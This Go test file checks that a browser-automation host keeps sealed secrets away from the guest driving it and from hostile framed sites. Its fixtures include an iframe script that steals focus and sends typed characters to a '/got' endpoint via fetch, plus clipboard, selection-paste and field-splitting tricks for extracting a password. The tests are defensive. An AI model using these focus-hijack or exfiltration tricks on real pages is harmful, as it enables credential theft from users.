//go:build linux

package browser_test

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"

	"github.com/sluicehost/sluice/abi"
	"github.com/sluicehost/sluice/host/browser"
	"github.com/sluicehost/sluice/host/egress"
)

// A trap is two sites: the one that a secret may be typed into, and one that is in a
// frame of it and wants the secret. What the second one gets hold of is kept.
type trap struct {
	*realDesk
	mu  sync.Mutex // guards got
	got []string
}

const secretText = "Zq7Xv9Jk4Wy2Bg"

// newTrap serves page at the first site, where FRAME is the address of the second,
// which serves frame. Both may be loaded.
func newTrap(t *testing.T, page, frame string) *trap {
	t.Helper()
	x := &trap{}
	serve := func(content *string) string {
		s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			if r.URL.Path == "/got" {
				x.mu.Lock()
				defer x.mu.Unlock()
				x.got = append(x.got, r.URL.RawQuery)
				return
			}
			_, _ = fmt.Fprint(w, *content)
		}))
		t.Cleanup(s.Close)
		return s.URL
	}
	other := strings.Replace(serve(&frame), "127.0.0.1", "localhost", 1)
	page = strings.ReplaceAll(page, "FRAME", other)
	h := sharedHost(t)
	site := serve(&page)
	x.realDesk = realSession(t, h, site, func(o *browser.SessionOptions) {
		var entries []egress.Entry
		for _, text := range []string{site, other} {
			e, err := egress.ParseEntry(text)
			if err != nil {
				t.Fatal(err)
			}
			e.Private = true
			entries = append(entries, e)
		}
		o.Policy = egress.NewPolicy(entries...)
	})
	x.Seal("username", handle, secretText, [][]byte{[]byte(secretText)}, fillAt(site))
	x.ok(t, `{"verb":"open","url":"SITE/"}`)
	return x
}

// leaked are the pieces of the secret, of three letters and more, that the other
// site got.
func (x *trap) leaked() (out []string) {
	x.mu.Lock()
	defer x.mu.Unlock()
	for _, q := range x.got {
		if piece(q) {
			out = append(out, q)
		}
	}
	return out
}

// piece reports whether three letters of the secret are somewhere in a text.
func piece(text string) bool {
	for i := 0; i+3 <= len(secretText); i++ {
		if strings.Contains(text, secretText[i:i+3]) {
			return true
		}
	}
	return false
}

// read is all that a guest reads of the page.
func (x *trap) read(t *testing.T) string {
	t.Helper()
	var all strings.Builder
	for _, request := range []string{
		`{"verb":"snapshot","include":["elements","console"]}`,
		`{"verb":"extract","items":[{"name":"v","take":"value","all":true,"target":{"selector":{"css":"input,textarea"}}},{"name":"t","take":"text","target":{"selector":{"css":"body"}}}]}`,
	} {
		text, _ := json.Marshal(x.ok(t, request))
		all.Write(text)
	}
	return all.String()
}

const fillUser = `{"verb":"type","target":{"selector":{"id":"user"}},"value":{"sealed":"` + handle + `"}`

// A frame that takes the focus while a value is typed does not get it.
func TestAttackFocus(t *testing.T) {
	x := newTrap(t, `<!doctype html><input id=user autocomplete=username><iframe src=FRAME></iframe>`,
		`<!doctype html><input id=i><script>setInterval(()=>i.focus(),0);i.oninput=()=>fetch('/got?'+i.value)</script>`)
	for n := range 12 {
		mode := "fill"
		if n%3 == 2 {
			mode = "keys"
		}
		out, errno := x.call(t, fillUser+`,"mode":"`+mode+
			`","recovery":{"max_recovery_attempts":0},"verify":{"window_ms":200}}`)
		t.Logf("%s %v %v", errno, out["success"], out["detail"])
	}
	if got := x.leaked(); got != nil {
		t.Errorf("a frame has %q", got)
	}
}

// A guest does not copy pieces of a value to where it reads them.
func TestAttackClipboard(t *testing.T) {
	x := newTrap(t, `<!doctype html><input id=user autocomplete=username><input id=note aria-label=note><textarea id=area></textarea>`, ``)
	for _, chords := range [][3]string{
		{"Shift+ArrowRight", "Control+C", "Control+V"}, {"Shift+ArrowRight", "Control+X", "Control+V"},
		{"Shift+ArrowRight", "Control+Insert", "Shift+Insert"}, {"Shift+ArrowRight", "Shift+Delete", "Shift+Insert"},
	} {
		x.ok(t, fillUser+`}`)
		for _, keys := range []string{"Home", chords[0], chords[1]} {
			n := 1
			if keys == chords[0] {
				n = 5
			}
			out, errno := x.call(t, fmt.Sprintf(
				`{"verb":"press","keys":%q,"count":%d,"target":{"selector":{"id":"user"}},"verify":{"window_ms":100},"recovery":{"max_recovery_attempts":0}}`, keys, n))
			t.Logf("%s: %s %v %v", keys, errno, out["code"], out["detail"])
		}
		for _, field := range []string{"note", "area"} {
			out, errno := x.call(t, fmt.Sprintf(
				`{"verb":"press","keys":%q,"target":{"selector":{"id":%q}},"verify":{"window_ms":100},"recovery":{"max_recovery_attempts":0}}`, chords[2], field))
			t.Logf("%s: %s %v %v", chords[2], errno, out["code"], out["detail"])
		}
		if got := x.read(t); piece(got) {
			t.Errorf("%v: the guest reads %.1500s", chords, got)
		}
	}
}

// Nor does it select a piece with the pointer and paste it with the middle
// button.
func TestAttackSelection(t *testing.T) {
	x := newTrap(t, `<!doctype html><input id=user autocomplete=username><input id=note aria-label=note>`, ``)
	x.ok(t, fillUser+`}`)
	x.call(t, `{"verb":"click","count":2,"target":{"selector":{"id":"user"}},"position":{"x":0.1,"y":0.5},"verify":{"window_ms":100},"recovery":{"max_recovery_attempts":0}}`)
	x.call(t, `{"verb":"click","button":"middle","target":{"selector":{"id":"note"}},"verify":{"window_ms":100},"recovery":{"max_recovery_attempts":0}}`)
	if got := x.read(t); piece(got) {
		t.Errorf("the guest reads %.1500s", got)
	}
}

// A value that a guest shortens is not read where the page repeats it.
func TestAttackShortened(t *testing.T) {
	x := newTrap(t, `<!doctype html><input id=user autocomplete=username oninput="out.textContent=this.value"><p id=out></p>`, ``)
	x.ok(t, fillUser+`}`)
	out, errno := x.call(t, `{"verb":"press","keys":"Backspace","count":2,"target":{"selector":{"id":"user"}},"verify":{"window_ms":100},"recovery":{"max_recovery_attempts":0}}`)
	t.Logf("%s %v %v", errno, out["code"], out["detail"])
	if got := x.read(t); piece(got) {
		t.Errorf("the guest reads %.1500s", got)
	}
}

// Fields that share a value letter by letter, or keep its beginning, say no
// letter of it.
func TestAttackDivided(t *testing.T) {
	for name, page := range map[string]string{
		"one field after the other": `<!doctype html><input id=user autocomplete=username maxlength=3><input maxlength=3><input maxlength=3><input maxlength=3><input maxlength=3>
			<script>const all=[...document.querySelectorAll('input')];all.forEach((e,i)=>e.oninput=()=>{if(e.value.length===3&&all[i+1])all[i+1].focus()})</script>`,
		"a short field": `<!doctype html><input id=user autocomplete=username maxlength=9 oninput="out.textContent=this.value"><p id=out></p>`,
	} {
		for _, mode := range []string{"fill", "keys"} {
			t.Run(name+" "+mode, func(t *testing.T) {
				x := newTrap(t, page, ``)
				out, errno := x.call(t, fillUser+`,"mode":"`+mode+
					`","recovery":{"max_recovery_attempts":0},"verify":{"window_ms":200}}`)
				t.Logf("%s %v %v", errno, out["code"], out["detail"])
				if got := x.read(t); piece(got) {
					t.Errorf("the guest reads %.1500s", got)
				}
			})
		}
	}
}

// Keys that do no harm still reach a field that holds a secret, and keys that would
// reach others do: a form is sent with Enter, and a note is written after it.
func TestSealedKeys(t *testing.T) {
	x := newTrap(t, `<!doctype html><form onsubmit="out.textContent='sent';return false"><input id=user autocomplete=username><input id=note aria-label=note><button>Send</button></form><p id=out></p>`, ``)
	x.ok(t, fillUser+`}`)
	for _, request := range []string{
		`{"verb":"press","keys":"Control+A","target":{"selector":{"id":"user"}}}`, `{"verb":"press","keys":"Control+A"}`,
		`{"verb":"press","keys":"Tab Shift+Tab x"}`, `{"verb":"press","keys":"x","target":{"selector":{"id":"user"}}}`,
	} {
		x.refused(t, request, "sealed_placement_denied")
	}
	if out := x.ok(t, `{"verb":"press","keys":"Control+A","target":{"selector":{"id":"note"}},"verify":{"window_ms":100}}`); out["dispatched"] != true {
		t.Errorf("%v", out)
	}
	if out := x.ok(t, `{"verb":"press","keys":"Enter","target":{"selector":{"id":"user"}},"expect":{"kind":"text","target":{"selector":{"id":"out"}},"op":"equals","value":"sent"}}`); out["success"] != true {
		t.Errorf("%v", out)
	}
	// after it was sent too
	x.refused(t, `{"verb":"press","keys":"Control+A","target":{"selector":{"id":"user"}}}`, "sealed_placement_denied")
	if out := x.ok(t, `{"verb":"clear","target":{"selector":{"id":"user"}}}`); out["success"] != true {
		t.Errorf("%v", out)
	}
}

func (d *realDesk) refused(t *testing.T, request, code string) {
	t.Helper()
	if out, errno := d.call(t, request); errno == abi.OK || out["code"] != code {
		t.Errorf("%s: %s %v", request, errno, out)
	}
}
